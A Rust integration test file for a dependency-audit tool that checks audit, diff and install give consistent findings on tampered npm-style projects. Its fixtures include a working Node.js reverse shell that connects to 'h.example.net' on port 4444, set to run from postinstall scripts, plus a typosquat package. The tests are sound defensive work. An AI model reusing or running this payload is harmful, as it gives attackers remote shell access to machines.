//! One engine, one answer: the same fixture trees through `audit`, `diff` (base = the clean
//! copy), `install` (the package manager's hand-over replaced by a stub on PATH that writes
//! the planned lockfile, and records the real install) and, where a spec applies, `check` —
//! asserting the same findings and the same exit codes.
//!
//! The registry is a fixture on 127.0.0.1 serving the real tarballs the tamper corpus locks
//! (tests/data/registry), so every layer runs: lockfile rules, OSV advisories (the corpus
//! snapshot), registry cross-checks and berry checksums, packument metadata, code. Nothing
//! reaches the internet: `.npmrc` and git send everything but 127.0.0.1 to a closed local port.
//!
//! Fixtures:
//! - every tamper case of the shared corpus (16) and the 5 clean bases;
//! - a tree that adds a typosquat (`loadsh`, of lodash);
//! - a `file:` tarball whose postinstall opens a reverse shell;
//! - the same package as a `git+file://` dependency on a local bare repository whose hooks
//!   would write a marker file (no hook runs), as a `file:` folder and as a `link:` folder;
//! - a dependency added to package.json without relocking, in each of the 5 formats;
//! - a clean Yarn 4 project (checksums verified against yarn's rebuilt zip: exit 0).

mod support {
    pub mod fixture_registry;
}

use base64::Engine as _;
use diligence_testkit::git::FixtureRepo;
use serde_json::{Value, json};
use sha2::Digest;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use support::fixture_registry::{FixtureRegistry, FixtureVersion};

const REVERSE_SHELL: &str = "const net = require('net'), cp = require('child_process');\n\
const c = net.connect(4444, 'h.example.net', () => {\n\
  const sh = cp.spawn('/bin/sh', []);\n\
  c.pipe(sh.stdin); sh.stdout.pipe(c);\n\
});\n";

/// `(rule, name@version, severity)` of a report's findings, without the rules that describe
/// the change itself (`diff/…`) or the project's own configuration (`posture/…`).
type Rows = BTreeSet<(String, String, String)>;

#[derive(Debug, Clone, PartialEq, Eq)]
struct Outcome {
    code: i32,
    rows: Rows,
    /// The `diff/…` findings (the change itself: only a delta has them).
    change_rows: Rows,
    not_evaluated: BTreeSet<String>,
}

impl Outcome {
    /// True when a `diff/…` finding is at or above high (the default --fail-on).
    fn change_fails(&self) -> bool {
        self.change_rows
            .iter()
            .any(|(_, _, s)| s == "high" || s == "critical")
    }
}

struct World {
    reg: FixtureRegistry,
    tmp: tempfile::TempDir,
    osv: PathBuf,
    stub_bin: PathBuf,
    loadsh_integrity: String,
}

fn data(file: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/data/registry")
            .join(file),
    )
    .unwrap()
}

fn sri(bytes: &[u8]) -> String {
    let digest = sha2::Sha512::digest(bytes);
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

fn world() -> Option<World> {
    let osv = diligence_testkit::corpus("advisories/osv")?;
    let mut versions: Vec<FixtureVersion> = [
        "types-debug-4.1.13.tgz",
        "types-ms-2.1.0.tgz",
        "debug-4.4.3.tgz",
        "is-number-7.0.0.tgz",
        "ms-2.1.3.tgz",
        "picocolors-1.1.1.tgz",
    ]
    .iter()
    .map(|f| FixtureVersion::from_tarball(data(f)))
    .collect();
    let loadsh = FixtureVersion::new("loadsh", "4.17.21", &[]);
    let loadsh_integrity = sri(&loadsh.tarball());
    versions.push(loadsh);
    let reg = FixtureRegistry::start(&versions, &[]);
    let tmp = tempfile::tempdir().unwrap();
    let stub_bin = tmp.path().join("bin");
    std::fs::create_dir_all(&stub_bin).unwrap();
    for pm in ["npm", "pnpm", "yarn", "bun"] {
        let stub = stub_bin.join(pm);
        std::fs::write(
            &stub,
            "#!/bin/sh\n\
             # Test stub: the planning run writes the planned lockfile; the real install is recorded.\n\
             for a in \"$@\"; do\n\
               case \"$a\" in --package-lock-only|--lockfile-only|update-lockfile)\n\
                 cp \"$STUB_LOCKFILE\" \"./$(basename \"$STUB_LOCKFILE\")\"; exit 0;;\n\
               esac\n\
             done\n\
             echo \"$*\" >> \"$STUB_INSTALLED\"\n",
        )
        .unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    Some(World {
        reg,
        tmp,
        osv,
        stub_bin,
        loadsh_integrity,
    })
}

impl World {
    /// A copy of `from`'s project files in a fresh folder, with an `.npmrc` that points at the
    /// fixture registry and sends every other host to a closed port.
    fn project(&self, from: &Path, name: &str) -> PathBuf {
        let dir = self.tmp.path().join("projects").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        for entry in std::fs::read_dir(from).unwrap() {
            let entry = entry.unwrap();
            let file = entry.file_name();
            let keep = ["package.json", ".yarnrc.yml"].contains(&file.to_str().unwrap())
                || diligence_lockfile::LOCKFILE_NAMES.contains(&file.to_str().unwrap());
            if keep {
                std::fs::copy(entry.path(), dir.join(&file)).unwrap();
            }
        }
        std::fs::write(
            dir.join(".npmrc"),
            format!(
                "registry={}\nproxy=http://127.0.0.1:9/\nhttps-proxy=http://127.0.0.1:9/\nnoproxy=127.0.0.1\n",
                self.reg.url
            ),
        )
        .unwrap();
        dir
    }

    fn diligence(&self) -> assert_cmd::Command {
        let home = self.tmp.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let mut cmd = assert_cmd::Command::cargo_bin("diligence").unwrap();
        let path = format!(
            "{}:{}",
            self.stub_bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        cmd.env("HOME", &home)
            .env("DILIGENCE_CACHE_DIR", self.tmp.path().join("cache"))
            .env("npm_config_userconfig", home.join(".npmrc"))
            .env("NO_COLOR", "1")
            .env("PATH", path)
            // git never leaves the machine either.
            .env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", "http.proxy")
            .env("GIT_CONFIG_VALUE_0", "http://127.0.0.1:9/");
        cmd
    }

    fn common<'a>(&'a self, extra: &'a [&'a str]) -> Vec<String> {
        let mut args: Vec<String> = ["--db", self.osv.to_str().unwrap(), "--metadata", "-q"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    }

    fn audit(&self, proj: &Path, extra: &[&str]) -> Outcome {
        let out = self
            .diligence()
            .arg("audit")
            .arg(proj)
            .args(self.common(extra))
            .args(["--format", "json"])
            .output()
            .unwrap();
        outcome(out.status.code().unwrap(), &out.stdout, &out.stderr)
    }

    fn diff(&self, base: &Path, head: &Path, extra: &[&str]) -> Outcome {
        let out = self
            .diligence()
            .arg("diff")
            .arg("--base-lockfile")
            .arg(lockfile_in(base))
            .arg("--head-lockfile")
            .arg(lockfile_in(head))
            .args(self.common(extra))
            .args(["--format", "json"])
            .output()
            .unwrap();
        outcome(out.status.code().unwrap(), &out.stdout, &out.stderr)
    }

    /// `install` in `base` where the package manager would write `head`'s lockfile. Returns
    /// the outcome and whether the package manager's real install ran.
    fn install(&self, base: &Path, head: &Path, pm: &str, extra: &[&str]) -> (Outcome, bool) {
        let report = base.join("install-report.json");
        let installed = base.join("stub-installed");
        let _ = std::fs::remove_file(&installed);
        let out = self
            .diligence()
            .env("STUB_LOCKFILE", lockfile_in(head))
            .env("STUB_INSTALLED", &installed)
            .arg("install")
            .args(["--pm", pm, "--dir"])
            .arg(base)
            .args(self.common(extra))
            .args(["--format", "json", "--output"])
            .arg(&report)
            .output()
            .unwrap();
        let bytes = std::fs::read(&report).unwrap_or_default();
        let o = outcome(out.status.code().unwrap(), &bytes, &out.stderr);
        (o, installed.exists())
    }

    fn check(&self, spec: &str, dir: &Path, extra: &[&str]) -> Outcome {
        let out = self
            .diligence()
            .arg("check")
            .arg(spec)
            .arg("--dir")
            .arg(dir)
            .args(self.common(extra))
            .args(["--format", "json"])
            .output()
            .unwrap();
        outcome(out.status.code().unwrap(), &out.stdout, &out.stderr)
    }
}

fn lockfile_in(dir: &Path) -> PathBuf {
    diligence_lockfile::find_lockfile(dir).unwrap()
}

fn outcome(code: i32, stdout: &[u8], stderr: &[u8]) -> Outcome {
    let report: Value = serde_json::from_slice(stdout).unwrap_or_else(|e| {
        panic!(
            "exit {code}: {e}: {}{}",
            String::from_utf8_lossy(stdout),
            String::from_utf8_lossy(stderr)
        )
    });
    let row_of = |f: &Value| {
        (
            f["rule"].as_str().unwrap().to_string(),
            format!(
                "{}@{}",
                f["package"]["name"].as_str().unwrap_or(""),
                f["package"]["version"].as_str().unwrap_or("")
            ),
            f["severity"].as_str().unwrap().to_string(),
        )
    };
    let all = report["findings"].as_array().unwrap();
    let rows = all
        .iter()
        .filter(|f| {
            let rule = f["rule"].as_str().unwrap();
            !rule.starts_with("diff/") && !rule.starts_with("posture/")
        })
        .map(row_of)
        .collect();
    let change_rows = all
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("diff/"))
        .map(row_of)
        .collect();
    let not_evaluated = report["not_evaluated"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            format!(
                "{}: {}",
                n["what"].as_str().unwrap(),
                n["why"].as_str().unwrap()
            )
        })
        .collect();
    Outcome {
        code,
        rows,
        change_rows,
        not_evaluated,
    }
}

fn pm_of(format: &str) -> &'static str {
    match format {
        "npm-v3" => "npm",
        "pnpm-v9" => "pnpm",
        "bun" => "bun",
        _ => "yarn",
    }
}

/// Asserts audit(head) = diff(base → head) = install(base → head): the same findings, and the
/// same exit codes — except that a delta also judges the change itself (`diff/…`), so a
/// `diff/…` finding at the threshold (a `resolved` edited in place) fails diff and install
/// where audit, which has no base to compare with, cannot see the edit. Returns the audit
/// outcome and the delta's exit code.
fn same_everywhere(
    w: &World,
    base: &Path,
    head: &Path,
    pm: &str,
    extra: &[&str],
) -> (Outcome, i32) {
    let audit = w.audit(head, extra);
    let diff = w.diff(base, head, extra);
    let (install, installed) = w.install(base, head, pm, extra);
    let label = head.display();
    assert_eq!(audit.rows, diff.rows, "{label}: audit vs diff");
    assert_eq!(audit.rows, install.rows, "{label}: audit vs install");
    assert_eq!(
        diff.change_rows, install.change_rows,
        "{label}: diff vs install"
    );
    assert_eq!(
        diff.code, install.code,
        "{label}: exit codes diff vs install"
    );
    let delta_code = if diff.change_fails() { 1 } else { audit.code };
    assert_eq!(
        diff.code, delta_code,
        "{label}: exit codes audit vs diff: {diff:?}"
    );
    assert_eq!(
        installed,
        install.code == 0,
        "{label}: the package manager runs exactly when the review is clean"
    );
    (audit, diff.code)
}

fn row(rule: &str, pkg: &str, severity: &str) -> (String, String, String) {
    (rule.to_string(), pkg.to_string(), severity.to_string())
}

#[test]
fn tamper_corpus_gets_one_answer_from_every_command() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let mut cases: Vec<PathBuf> = std::fs::read_dir(&tamper)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("expect.json").is_file())
        .collect();
    cases.sort();
    assert_eq!(cases.len(), 16);
    let mut table = Vec::new();
    for case in &cases {
        let expect: Value =
            serde_json::from_str(&std::fs::read_to_string(case.join("expect.json")).unwrap())
                .unwrap();
        let format = expect["format"].as_str().unwrap();
        let name = case.file_name().unwrap().to_str().unwrap();
        let base = w.project(
            &tamper.join(format!("base-{format}")),
            &format!("{name}-base"),
        );
        let head = w.project(case, name);
        let (audit, delta_code) = same_everywhere(&w, &base, &head, pm_of(format), &[]);
        // The tampered entry (by name: a `link:` entry's version is its path) has a finding
        // of medium or more, and the run fails.
        let entry = expect["entry"].as_str().unwrap();
        let entry_name = &entry[..entry[1..].find('@').unwrap() + 1];
        let on_entry: Vec<&(String, String, String)> = audit
            .rows
            .iter()
            .filter(|(_, p, s)| {
                p.starts_with(&format!("{entry_name}@")) && s != "info" && s != "low"
            })
            .collect();
        assert!(
            !on_entry.is_empty(),
            "{name}: nothing on {entry}: {audit:?}"
        );
        assert_eq!(delta_code, 1, "{name}: {audit:?}");
        table.push(format!(
            "{name}: audit {} diff/install {delta_code} {:?}",
            audit.code,
            on_entry.iter().map(|r| (&r.0, &r.2)).collect::<Vec<_>>()
        ));
    }
    // T4 (another version's integrity or checksum) is caught by the registry layer in every
    // format, yarn berry included.
    for (case, rule) in [
        ("bun-T4-1", "registry/integrity-mismatch"),
        ("yarn-berry-T4-1", "registry/berry-checksum"),
    ] {
        assert!(
            table
                .iter()
                .any(|t| t.starts_with(case) && t.contains(rule)),
            "{case}: {table:#?}"
        );
    }
    eprintln!("{}", table.join("\n"));
}

#[test]
fn clean_trees_exit_0_everywhere_yarn_4_included() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    for format in ["npm-v3", "yarn-classic", "yarn-berry", "pnpm-v9", "bun"] {
        let base = w.project(
            &tamper.join(format!("base-{format}")),
            &format!("clean-{format}"),
        );
        let (audit, delta_code) = same_everywhere(&w, &base, &base, pm_of(format), &[]);
        assert_eq!((audit.code, delta_code), (0, 0), "{format}: {audit:?}");
        assert_eq!(audit.rows, Rows::new(), "{format}");
        assert_eq!(audit.not_evaluated, BTreeSet::new(), "{format}");
    }
    let dir = w.project(&tamper.join("base-npm-v3"), "clean-check");
    let check = w.check("debug@4.4.3", &dir, &[]);
    assert_eq!((check.code, check.rows.len()), (0, 0), "{check:?}");
}

/// The base npm project with extra lockfile entries and package.json dependencies.
fn npm_project_with(
    w: &World,
    name: &str,
    entries: &[(&str, Value)],
    deps: &[(&str, &str)],
) -> PathBuf {
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let dir = w.project(&tamper.join("base-npm-v3"), name);
    let lock_path = dir.join("package-lock.json");
    let mut lock: Value =
        serde_json::from_str(&std::fs::read_to_string(&lock_path).unwrap()).unwrap();
    let mut pj: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("package.json")).unwrap()).unwrap();
    for (key, entry) in entries {
        lock["packages"][key] = entry.clone();
    }
    for (dep, spec) in deps {
        lock["packages"][""]["dependencies"][dep] = json!(spec);
        pj["dependencies"][dep] = json!(spec);
    }
    std::fs::write(&lock_path, serde_json::to_string_pretty(&lock).unwrap()).unwrap();
    std::fs::write(
        dir.join("package.json"),
        serde_json::to_string_pretty(&pj).unwrap(),
    )
    .unwrap();
    dir
}

#[test]
fn a_typosquat_is_high_in_every_command() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let base = w.project(&tamper.join("base-npm-v3"), "squat-base");
    let entry = json!({
        "version": "4.17.21",
        "resolved": "https://registry.npmjs.org/loadsh/-/loadsh-4.17.21.tgz",
        "integrity": w.loadsh_integrity,
        "license": "MIT",
    });
    let head = npm_project_with(
        &w,
        "squat-head",
        &[("node_modules/loadsh", entry)],
        &[("loadsh", "^4.17.21")],
    );
    let (audit, _) = same_everywhere(&w, &base, &head, "npm", &[]);
    let squat = row("metadata/typosquat", "loadsh@4.17.21", "high");
    assert!(audit.rows.contains(&squat), "{audit:?}");
    assert_eq!(audit.code, 1);
    let check = w.check("loadsh@4.17.21", &base, &[]);
    assert_eq!(check.rows, BTreeSet::from([squat]), "{check:?}");
    assert_eq!(check.code, 1);
}

/// A gzip'd npm tarball of `files` under `package/`.
fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

#[test]
fn a_file_tarball_with_a_reverse_shell_postinstall_is_scanned_everywhere() {
    let Some(w) = world() else { return };
    let tgz = tarball(&[
        (
            "package.json",
            r#"{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
        ),
        ("install.js", REVERSE_SHELL),
    ]);
    let spec = "file:vendor/evil-helper-1.0.0.tgz";
    let entry = json!({"version": "1.0.0", "resolved": spec, "integrity": sri(&tgz)});
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let base = w.project(&tamper.join("base-npm-v3"), "file-base");
    let head = npm_project_with(
        &w,
        "file-head",
        &[("node_modules/evil-helper", entry)],
        &[("evil-helper", spec)],
    );
    for dir in [&base, &head] {
        std::fs::create_dir_all(dir.join("vendor")).unwrap();
        std::fs::write(dir.join("vendor/evil-helper-1.0.0.tgz"), &tgz).unwrap();
    }
    let (audit, _) = same_everywhere(&w, &base, &head, "npm", &[]);
    assert!(
        audit.rows.iter().any(|(r, p, s)| r == "code/reverse-shell"
            && p == "evil-helper@1.0.0"
            && s == "critical"),
        "{audit:?}"
    );
    assert_eq!(audit.code, 1);
    // Offline too: local code needs no registry.
    let out = w
        .diligence()
        .arg("audit")
        .arg(&head)
        .args(["--no-registry", "--no-advisories", "-q", "--format", "json"])
        .output()
        .unwrap();
    let offline = outcome(out.status.code().unwrap(), &out.stdout, &out.stderr);
    assert!(
        offline
            .rows
            .iter()
            .any(|(r, _, _)| r == "code/reverse-shell"),
        "{offline:?}"
    );
    assert_eq!(offline.code, 1);
}

#[test]
fn an_unlocked_dependency_is_seen_in_every_format() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    for format in ["npm-v3", "yarn-classic", "yarn-berry", "pnpm-v9", "bun"] {
        let from = tamper.join(format!("base-{format}"));
        let base = w.project(&from, &format!("unlocked-base-{format}"));
        let head = w.project(&from, &format!("unlocked-head-{format}"));
        let mut pj: Value =
            serde_json::from_str(&std::fs::read_to_string(head.join("package.json")).unwrap())
                .unwrap();
        pj["dependencies"]["left-pad"] = json!("^1.3.0");
        std::fs::write(head.join("package.json"), pj.to_string()).unwrap();
        let flags = ["--fail-on", "medium"];
        let audit = w.audit(&head, &flags);
        let diff = w.diff(&base, &head, &flags);
        let unlocked = row("lockfile/unlocked-dependency", "@", "medium");
        assert!(audit.rows.contains(&unlocked), "{format}: {audit:?}");
        assert_eq!(audit.rows, diff.rows, "{format}");
        assert_eq!((audit.code, diff.code), (1, 1), "{format}");
    }
}

/// The package of the local-code cases: a reverse shell started by `postinstall`.
fn evil_package(name: &str) -> Vec<(String, String)> {
    vec![
        (
            "package.json".to_string(),
            format!(
                r#"{{"name":"{name}","version":"1.0.0","scripts":{{"postinstall":"node install.js"}}}}"#
            ),
        ),
        ("install.js".to_string(), REVERSE_SHELL.to_string()),
    ]
}

/// True when a report row says `name@1.0.0` opens a reverse shell (critical, as for a
/// registry package).
fn has_reverse_shell(o: &Outcome, name: &str) -> bool {
    let pkg = format!("{name}@1.0.0");
    o.rows
        .iter()
        .any(|(r, p, s)| r == "code/reverse-shell" && *p == pkg && s == "critical")
}

/// Issue 12 item 3: a `git+file://` dependency on a local bare repository whose package opens
/// a reverse shell at install, and whose repository carries hooks that would write a marker:
/// `audit`, `diff` and `install` scan the locked commit (exported with hooks off), report the
/// critical finding, and never run a hook; `--no-registry` (no fetching) is not evaluated.
#[test]
fn a_git_dependency_with_a_reverse_shell_is_scanned_and_no_hook_runs() {
    let Some(w) = world() else { return };
    let root = w.tmp.path().join("git-dep");
    let work = root.join("work");
    let bare = root.join("evil-git.git");
    let marker = root.join("HOOK-RAN");
    // The testkit's git runs without the user's global or system configuration (no template
    // hooks, no signing) and with a fixed author.
    let repo = FixtureRepo::init(&work);
    for (path, text) in evil_package("evil-git") {
        repo.write(&path, text);
    }
    repo.git(&["add", "."]);
    repo.git(&["commit", "-q", "-m", "evil"]);
    let commit = repo.git(&["rev-parse", "HEAD"]);
    repo.git(&[
        "clone",
        "-q",
        "--bare",
        work.to_str().unwrap(),
        bare.to_str().unwrap(),
    ]);
    // Every hook a fetch, archive or checkout could start writes the marker.
    let hooks = bare.join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    for hook in [
        "pre-upload",
        "post-upload",
        "post-checkout",
        "post-merge",
        "post-index-change",
        "reference-transaction",
        "pre-auto-gc",
        "post-update",
        "pre-receive",
        "update",
        "post-receive",
        "push-to-checkout",
        "fsmonitor-watchman",
    ] {
        let path = hooks.join(hook);
        std::fs::write(&path, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    let url = format!("git+file://{}", bare.display());
    let entry = json!({
        "version": "1.0.0",
        "resolved": format!("{url}#{commit}"),
        "hasInstallScript": true,
    });
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let base = w.project(&tamper.join("base-npm-v3"), "git-base");
    let head = npm_project_with(
        &w,
        "git-head",
        &[("node_modules/evil-git", entry)],
        &[("evil-git", &url)],
    );
    let (audit, delta_code) = same_everywhere(&w, &base, &head, "npm", &[]);
    assert!(has_reverse_shell(&audit, "evil-git"), "{audit:?}");
    assert_eq!((audit.code, delta_code), (1, 1));
    assert!(!marker.exists(), "a git hook ran");
    // Without the registry nothing is fetched, git included: the code scan is not evaluated,
    // never clean (a project locking only the git dependency, so the record is its own).
    let only = w.tmp.path().join("projects/git-only");
    std::fs::create_dir_all(&only).unwrap();
    let lock = json!({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "app", "version": "1.0.0", "dependencies": {"evil-git": url}},
            "node_modules/evil-git": {"version": "1.0.0", "resolved": format!("{url}#{commit}"), "hasInstallScript": true},
        },
    });
    std::fs::write(only.join("package-lock.json"), lock.to_string()).unwrap();
    std::fs::write(
        only.join("package.json"),
        json!({"name": "app", "version": "1.0.0", "dependencies": {"evil-git": url}}).to_string(),
    )
    .unwrap();
    let out = w
        .diligence()
        .arg("audit")
        .arg(&only)
        .args([
            "--no-registry",
            "--no-advisories",
            "-q",
            "--fail-on",
            "critical",
        ])
        .args(["--format", "json"])
        .output()
        .unwrap();
    let offline = outcome(out.status.code().unwrap(), &out.stdout, &out.stderr);
    assert_eq!(
        offline.rows,
        BTreeSet::from([
            row("lockfile/disallowed-scheme", "evil-git@1.0.0", "high"),
            row("lockfile/git-source", "evil-git@1.0.0", "low"),
        ])
    );
    assert_eq!(
        offline.not_evaluated,
        BTreeSet::from(["code scan of evil-git@1.0.0: --no-registry: git dependencies are not fetched (add --no-code to skip the code scan)".to_string()])
    );
    assert_eq!(offline.code, 2);
    assert!(!marker.exists(), "a git hook ran");
}

/// Writes `files` into `dir`.
fn write_package(dir: &Path, files: &[(String, String)]) {
    std::fs::create_dir_all(dir).unwrap();
    for (path, text) in files {
        std::fs::write(dir.join(path), text).unwrap();
    }
}

/// Issue 12 item 3: a `file:` folder and a `link:` folder whose package opens a reverse shell
/// at install are scanned from the local path by `audit`, `diff` and `install` (critical), and
/// with `--no-registry` too (local code needs no registry).
#[test]
fn file_and_link_folders_with_a_reverse_shell_are_scanned_everywhere() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    // `file:` folder: the entry is the package itself, resolved to the folder.
    let file_entry =
        json!({"version": "1.0.0", "resolved": "file:vendor/evil-dir", "hasInstallScript": true});
    // `link:` folder (npm's `"link": true` entry and its target folder entry).
    let link_entry = json!({"resolved": "vendor/evil-link", "link": true});
    let target_entry = json!({"name": "evil-link", "version": "1.0.0", "hasInstallScript": true});
    for (case, name, entries, spec) in [
        (
            "file",
            "evil-dir",
            vec![("node_modules/evil-dir", file_entry)],
            "file:vendor/evil-dir",
        ),
        (
            "link",
            "evil-link",
            vec![
                ("node_modules/evil-link", link_entry),
                ("vendor/evil-link", target_entry),
            ],
            "file:vendor/evil-link",
        ),
    ] {
        let base = w.project(&tamper.join("base-npm-v3"), &format!("{case}-dir-base"));
        let head = npm_project_with(&w, &format!("{case}-dir-head"), &entries, &[(name, spec)]);
        for dir in [&base, &head] {
            write_package(&dir.join("vendor").join(name), &evil_package(name));
        }
        let (audit, delta_code) = same_everywhere(&w, &base, &head, "npm", &[]);
        assert!(has_reverse_shell(&audit, name), "{case}: {audit:?}");
        assert_eq!((audit.code, delta_code), (1, 1), "{case}");
        let out = w
            .diligence()
            .arg("audit")
            .arg(&head)
            .args(["--no-registry", "--no-advisories", "-q", "--format", "json"])
            .output()
            .unwrap();
        let offline = outcome(out.status.code().unwrap(), &out.stdout, &out.stderr);
        assert!(has_reverse_shell(&offline, name), "{case}: {offline:?}");
        assert_eq!(offline.code, 1, "{case}");
    }
}

/// Issue 15 item 6 through `install`: with an audit ledger in the project, the plan's new
/// package that the ledger does not cover is `vet/unaudited` with the size of its review and
/// the certify command, and the package manager does not run.
#[test]
fn the_ledger_reviews_an_install_plan() {
    let Some(w) = world() else { return };
    let tamper = diligence_testkit::corpus("tamper").unwrap();
    let base = w.project(&tamper.join("base-npm-v3"), "ledger-base");
    let out = w
        .diligence()
        .args(["vet", "regenerate-exemptions"])
        .arg(&base)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let entry = json!({
        "version": "4.17.21",
        "resolved": "https://registry.npmjs.org/loadsh/-/loadsh-4.17.21.tgz",
        "integrity": w.loadsh_integrity,
        "license": "MIT",
    });
    let head = npm_project_with(
        &w,
        "ledger-head",
        &[("node_modules/loadsh", entry)],
        &[("loadsh", "^4.17.21")],
    );
    let (install, installed) = w.install(&base, &head, "npm", &[]);
    assert!(!installed);
    assert_eq!(install.code, 1);
    let report: Value =
        serde_json::from_slice(&std::fs::read(base.join("install-report.json")).unwrap()).unwrap();
    let vet: Vec<(&str, &str, &Value)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("vet/"))
        .map(|f| {
            (
                f["rule"].as_str().unwrap(),
                f["message"].as_str().unwrap(),
                &f["evidence"]["review"],
            )
        })
        .collect();
    let review = json!({"added": 12, "removed": 0, "lines": 12, "files": 2, "binaries": 0});
    assert_eq!(
        vet,
        vec![(
            "vet/unaudited",
            "loadsh@4.17.21 is not audited for safe-to-deploy: review it in full, 12 lines (`diligence vet certify loadsh 4.17.21 --criteria safe-to-deploy`), or exempt it",
            &review
        )]
    );
}
